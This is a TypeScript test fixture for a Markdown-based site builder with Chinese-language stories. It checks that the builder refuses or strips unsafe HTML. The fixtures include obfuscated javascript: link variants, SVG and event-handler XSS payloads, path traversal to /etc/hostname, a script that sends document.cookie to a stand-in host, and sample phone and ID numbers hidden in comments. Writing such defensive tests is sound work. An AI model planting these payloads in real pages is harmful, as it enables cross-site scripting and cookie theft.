/**
 * Hostile rows for raw HTML, links, images and comments in Markdown (families 'unsafe' and 'private'). A story's
 * body starts on line 7 of its file (`story` below), so a row's line is 6 + the body line it points at.
 */
import type { ContentCase } from '../case.ts';

/** A 2023 story in the mini fixture whose body starts on line 7. */
function story(slug: string, body: string, extra: Record<string, string | Uint8Array> = {}): ContentCase['files'] {
  const head = `---\ntitle: 安全测试：${slug}\ndate: 2023-09-01\nsummary: 检查正文里的 HTML 是否安全。\n---\n\n`;
  return { [`stories/2023/${slug}.md`]: head + body, ...extra };
}

const file = (slug: string) => `stories/2023/${slug}.md`;
const scheme = (name: string) => new RegExp(`不允许的链接协议“${name}:”`);
const refusedAt = (slug: string, line: number, message: RegExp) => ({ refused: { file: file(slug), line, message } });
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.domain)</script></svg>';

export const cases: ContentCase[] = [
  // javascript: and friends, however written
  { name: 'a javascript: link with a decimal entity for its first letter', family: 'unsafe', files: story('js-dec', '<a href="&#106;avascript:alert(1)">点此</a>'), expect: refusedAt('js-dec', 7, scheme('javascript')) },
  { name: 'a javascript: link with a hex entity', family: 'unsafe', files: story('js-hex', '<a href="&#x6A;avascript:alert(1)">点此</a>'), expect: refusedAt('js-hex', 7, scheme('javascript')) },
  { name: 'a javascript: link with &colon; for its colon', family: 'unsafe', files: story('js-colon', '<a href="javascript&colon;alert(1)">点此</a>'), expect: refusedAt('js-colon', 7, scheme('javascript')) },
  { name: 'a javascript: link with a tab inside the scheme', family: 'unsafe', files: story('js-tab', '<a href="java\tscript:alert(1)">点此</a>'), expect: refusedAt('js-tab', 7, scheme('javascript')) },
  { name: 'a javascript: link with an entity tab inside the scheme', family: 'unsafe', files: story('js-tab-entity', '<a href="java&#9;script:alert(1)">点此</a>'), expect: refusedAt('js-tab-entity', 7, scheme('javascript')) },
  { name: 'a javascript: link with a newline inside the scheme', family: 'unsafe', files: story('js-newline', '<a href="java\nscript:alert(1)">点此</a>'), expect: refusedAt('js-newline', 7, scheme('javascript')) },
  { name: 'a JAVASCRIPT: link in upper case', family: 'unsafe', files: story('js-upper', '<a href="JAVASCRIPT:alert(1)">点此</a>'), expect: refusedAt('js-upper', 7, scheme('javascript')) },
  { name: 'a javascript: Markdown link target', family: 'unsafe', files: story('js-markdown', '正文。\n\n[点此](javascript:alert(1))'), expect: refusedAt('js-markdown', 9, scheme('javascript')) },
  { name: 'a javascript: Markdown link target written with an entity', family: 'unsafe', files: story('js-markdown-entity', '[点此](&#106;avascript:alert(1))'), expect: refusedAt('js-markdown-entity', 7, scheme('javascript')) },
  { name: 'a javascript: reference definition, reported where the link uses it', family: 'unsafe', files: story('js-reference', '见[附件][1]。\n\n[1]: javascript:alert(1)'), expect: refusedAt('js-reference', 7, scheme('javascript')) },
  { name: 'a javascript: autolink', family: 'unsafe', files: story('js-autolink', '地址：<javascript:alert(1)>'), expect: refusedAt('js-autolink', 7, scheme('javascript')) },
  { name: 'a vbscript: link', family: 'unsafe', files: story('vbscript', '<a href="vbscript:msgbox(1)">点此</a>'), expect: refusedAt('vbscript', 7, scheme('vbscript')) },
  { name: 'a data: link holding an HTML page', family: 'unsafe', files: story('data-link', '[下载](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'), expect: refusedAt('data-link', 7, scheme('data')) },
  { name: 'a data: image', family: 'unsafe', files: story('data-image', '![统计图](data:image/png;base64,iVBORw0KGgo=)'), expect: refusedAt('data-image', 7, /图片不能写成 data: 网址/) },

  // event handlers and active elements
  { name: 'an onerror handler on the line after its <img> tag', family: 'unsafe', files: story('onerror-next-line', '<img src="/logo.svg" alt="会徽"\n  onerror="alert(1)">'), expect: refusedAt('onerror-next-line', 8, /“onerror”这样的事件属性/) },
  { name: 'an ontoggle handler on the line after its <details> tag', family: 'unsafe', files: story('ontoggle-next-line', '<details open\n  ontoggle="alert(1)"><summary>展开</summary>内容</details>'), expect: refusedAt('ontoggle-next-line', 8, /“ontoggle”这样的事件属性/) },
  { name: 'a <script> block', family: 'unsafe', files: story('script', '正文。\n\n<script>fetch("https://x.example/?c=" + document.cookie)</script>'), expect: refusedAt('script', 9, /不允许写 <script>/) },
  { name: 'a <style> block hiding the page', family: 'unsafe', files: story('style', '<style>body { display: none }</style>'), expect: refusedAt('style', 7, /不允许写 <style>/) },
  { name: 'an <iframe> video', family: 'unsafe', files: story('iframe', '<iframe src="https://v.example.com/embed/1"></iframe>'), expect: refusedAt('iframe', 7, /不允许嵌入 <iframe>/) },
  { name: 'an <object> plugin', family: 'unsafe', files: story('object', '<object data="https://x.example/a.swf"></object>'), expect: refusedAt('object', 7, /不允许嵌入 <object>/) },
  { name: 'an <embed> plugin', family: 'unsafe', files: story('embed', '<embed src="https://x.example/a.swf">'), expect: refusedAt('embed', 7, /不允许嵌入 <embed>/) },
  { name: 'a <form> posting elsewhere', family: 'unsafe', files: story('form', '<form action="https://x.example/collect"><input name="phone"><button>提交</button></form>'), expect: refusedAt('form', 7, /不允许写表单 <form>/) },
  { name: 'a <base> that moves every relative link', family: 'unsafe', files: story('base', '<base href="https://x.example/">'), expect: refusedAt('base', 7, /不允许写 <base>/) },
  { name: 'a <meta http-equiv=refresh> redirect', family: 'unsafe', files: story('meta-refresh', '<meta http-equiv="refresh" content="0; url=https://x.example/">'), expect: refusedAt('meta-refresh', 7, /不允许写 <meta>/) },

  // other hosts
  { name: 'a tracker <img> from another host', family: 'unsafe', files: story('tracker-img', '<img src="https://tracker.example.com/p.gif" alt="" width="1" height="1">'), expect: refusedAt('tracker-img', 7, /不能引用其他网站的图片/) },
  { name: 'a protocol-relative tracker <img>', family: 'unsafe', files: story('tracker-img-relative', '<img src="//tracker.example.com/p.gif" alt="统计">'), expect: refusedAt('tracker-img-relative', 7, /不能引用其他网站的图片/) },
  { name: 'a Markdown image from another host', family: 'unsafe', files: story('remote-image', '![统计图](https://img.example.com/a.png)'), expect: refusedAt('remote-image', 7, /不能引用其他网站的图片/) },
  { name: 'a foreign <link rel=stylesheet>', family: 'unsafe', files: story('foreign-css', '<link rel="stylesheet" href="https://cdn.example.com/a.css">'), expect: refusedAt('foreign-css', 7, /不允许写 <link>/) },

  // SVG and image paths
  { name: 'inline <svg> holding a script', family: 'unsafe', files: story('inline-svg', `正文。\n\n${SVG}`), expect: refusedAt('inline-svg', 9, /不允许直接写 <svg>/) },
  { name: 'a Markdown image that is an SVG with a script', family: 'unsafe', files: story('svg-image', '![统计图](./svg-image.svg)', { 'stories/2023/svg-image.svg': SVG }), expect: refusedAt('svg-image', 7, /不支持 SVG 图片/) },
  { name: 'an SVG with a script renamed to .png', family: 'unsafe', files: story('svg-renamed', '![统计图](./svg-renamed.png)', { 'stories/2023/svg-renamed.png': SVG }), expect: refusedAt('svg-renamed', 7, /不是 PNG、JPG、GIF、WebP 或 AVIF 图片/) },
  {
    name: 'a story cover that is an SVG with a script',
    family: 'unsafe',
    files: {
      'stories/2023/svg-cover.md': '---\ntitle: 安全测试：SVG 封面\ndate: 2023-09-01\nsummary: 封面图是 SVG。\ncover:\n  src: ./svg-cover.svg\n  alt: 封面\n---\n\n正文。\n',
      'stories/2023/svg-cover.svg': SVG,
    },
    expect: { refused: { file: 'stories/2023/svg-cover.md', line: 6, message: /不支持 SVG 图片/ } },
  },
  { name: 'a Markdown image path that climbs out of content/', family: 'unsafe', files: story('image-traversal', '![主机名](../../../../../../../etc/hostname)'), expect: refusedAt('image-traversal', 7, /不在 content 文件夹里/) },
  {
    name: 'a cover path that climbs out of content/',
    family: 'unsafe',
    files: { 'stories/2023/cover-traversal.md': '---\ntitle: 安全测试：封面越界\ndate: 2023-09-01\nsummary: 封面图在 content 外面。\ncover:\n  src: ../../../../../../../etc/hostname\n  alt: 封面\n---\n\n正文。\n' },
    expect: { refused: { file: 'stories/2023/cover-traversal.md', line: 6, message: /不在 content 文件夹里/ } },
  },

  // accepted: published with the harmful part removed
  {
    name: 'a link with target=_blank is published without target (no window.opener to abuse)',
    family: 'unsafe',
    files: story('target-blank', '详见<a href="https://www.gov.cn/zhengce/" target="_blank">政策原文</a>。'),
    expect: {
      accepted: {
        warning: { file: file('target-blank'), line: 7, message: /HTML 属性“target”/ },
        // The ZIP carries the Markdown as written, so the removed parts are asserted by what the page says instead.
        present: [{ page: 'stories/2023/target-blank/index.html', text: '详见<a href="https://www.gov.cn/zhengce/">政策原文</a>。' }],
      },
    },
  },
  {
    name: 'a <font> tag is dropped and its words kept',
    family: 'unsafe',
    files: story('font-tag', '<font color="red">重要通知</font>：本周五停电。'),
    expect: { accepted: { warning: { file: file('font-tag'), line: 7, message: /HTML 标签 <font>/ }, present: [{ page: 'stories/2023/font-tag/index.html', text: '重要通知：本周五停电。' }] } },
  },
  {
    name: 'a style attribute loading a tracker is dropped',
    family: 'unsafe',
    files: story('style-tracker', '<span style="background:url(https://tracker-style.example.net/s.gif)">年度要闻</span>'),
    expect: { accepted: { warning: { file: file('style-tracker'), line: 7, message: /style 属性/ }, present: [{ page: 'stories/2023/style-tracker/index.html', text: '<span>年度要闻</span>' }] } },
  },
  {
    name: 'an HTML comment with a mobile number stays out of pages, search, compilation and the ZIP sources',
    family: 'private',
    files: story('comment-phone', '正文第一段<!-- 联系人 王科长 13912345678 -->。\n\n<!--\n待核实：身份证 110101199003071234\n-->\n\n第二段。'),
    expect: { accepted: { absent: [/13912345678/, /110101199003071234/, /待核实/], present: [{ page: 'stories/2023/comment-phone/index.html', text: '正文第一段。' }] } },
  },
  {
    name: 'an HTML comment in an honour list’s prose stays out of the page and the ZIP sources',
    family: 'private',
    files: {
      'honors/2024/comment-honor.md':
        '---\ntitle: 2023年度优秀会员单位\nissuers: [澄江市工商联]\ndate: 2024-03-01\nsummary: 表彰优秀会员单位。\n---\n\n经研究<!-- 联系人 13712345678 -->，决定表彰以下单位。\n\n## 优秀会员单位\n\n| 名称 | 地区 |\n|---|---|\n| 澄江恒丰纸业有限公司 | 北岸区 |\n',
    },
    expect: { accepted: { absent: [/13712345678/], present: [{ page: 'honors/2024/comment-honor/index.html', text: '经研究，决定表彰以下单位。' }] } },
  },
];
